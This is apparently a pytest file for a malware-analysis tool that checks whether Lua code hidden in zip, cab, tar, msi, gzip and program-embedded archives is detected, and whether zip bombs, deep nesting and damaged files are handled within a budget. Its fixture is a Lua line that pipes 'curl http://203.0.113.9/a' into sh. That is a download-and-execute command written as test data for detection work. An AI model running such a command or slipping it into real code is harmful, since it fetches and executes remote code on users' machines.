"""Lua in archives and installers: found under any name, within a budget, and what cannot be unpacked is said."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
from collections.abc import Callable

import pytest
from cabarchive import CabArchive, CabFile
from hypothesis import given, settings
from hypothesis import strategies as st

from perilune.analysis import lua
from perilune.analysis.lua import archives
from perilune.analysis.lua.archives import Unpack
from perilune.model.lua import Form
from tests.analysis.lua.compound import compound

CODE = b"local c = 'curl http://203.0.113.9/a | sh'\nos.execute(c)\n"


def _zip(data: bytes, name: str = "uix.txt") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def _cab(data: bytes, name: str = "readme.txt") -> bytes:
    archive = CabArchive()
    archive[name] = CabFile(data)
    return bytes(archive.save(compress=True))


def _tar(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("a/b.dat")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _msi(data: bytes) -> bytes:
    return compound({"\u4840\u3f3f": b"x" * 4096, "disk1.cab": _cab(data)})


WAYS: dict[str, Callable[[bytes], bytes]] = {
    "zip": _zip, "cab": _cab, "tar": _tar, "msi": _msi, "gzip": gzip.compress,
    "zip in zip": lambda data: _zip(_zip(data), "inner.zip"),
    "tar.gz": lambda data: gzip.compress(_tar(data)),
    "program with an archive": lambda data: b"MZ" + bytes(9000) + _zip(data),
    "program in an archive": lambda data: _zip(b"MZ" + bytes(9000) + data * 3, "compiler.exe"),
}  # fmt: skip


@pytest.mark.parametrize("way", WAYS)
def test_lua_is_found(way: str) -> None:
    packed = WAYS[way](CODE)
    assert lua.is_lua(packed, "update.dat")
    found = lua.analyze(packed, "update.dat")
    assert found.identity.form is Form.CARRIER
    assert "shell-download" in found.intents or "process" in found.intents
    assert "http://203.0.113.9/a" in {one.value for one in found.indicators}
    assert all(0 <= one.start <= one.end <= len(packed) for one in found.layers if one.parent == 0)


def test_a_folder_of_harmless_files_has_none() -> None:
    for way in WAYS.values():
        assert not lua.is_lua(way(b"Dear all,\n\nthe meeting is at ten.\n" * 40), "x.bin")


def test_what_cannot_be_unpacked_is_said() -> None:
    raw = bytearray(_cab(CODE))
    raw[36 + 6] = 3  # the folder's compression: LZX
    cut: list[str] = []
    assert list(Unpack(cut).members_of(bytes(raw))) == []
    assert cut and "LZX" in cut[0] and "cabextract" in cut[0]
    found = lua.analyze(bytes(raw), "setup.cab")
    assert found.identity.form is Form.NONE and found.cut == tuple(cut)


def test_a_cabinet_that_promises_too_much_is_not_unpacked() -> None:
    raw = bytearray(_cab(CODE))
    raw[36 + 4 : 36 + 6] = struct.pack("<H", 0xFFFF)
    cut: list[str] = []
    assert list(Unpack(cut).members_of(bytes(raw))) == []
    assert "more than is unpacked" in cut[0]


def test_bombs_cost_no_more_than_the_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(archives, "MOST_UNPACKED", 1_000_000)
    monkeypatch.setattr(archives, "MOST_MEMBER", 400_000)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(12):
            archive.writestr(f"{n}.lua", bytes(600_000))
    work = Unpack([])
    assert sum(len(one.data) for one in work.members_of(buffer.getvalue())) <= 1_000_000
    assert any("more than" in one for one in work.cut)
    nest = CODE
    for _ in range(6):
        nest = _zip(nest, "a.zip")
    deep = Unpack([])
    assert list(deep.members_of(nest)) == []
    assert "deep" in deep.cut[0]


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(sorted(WAYS)), st.data())
def test_damage_is_counted_and_never_raised(way: str, data: st.DataObject) -> None:
    raw = bytearray(WAYS[way](CODE))
    for _ in range(data.draw(st.integers(1, 8))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    damaged = bytes(raw[: data.draw(st.integers(1, len(raw)))])
    list(Unpack([]).members_of(damaged))
    lua.analyze(damaged)
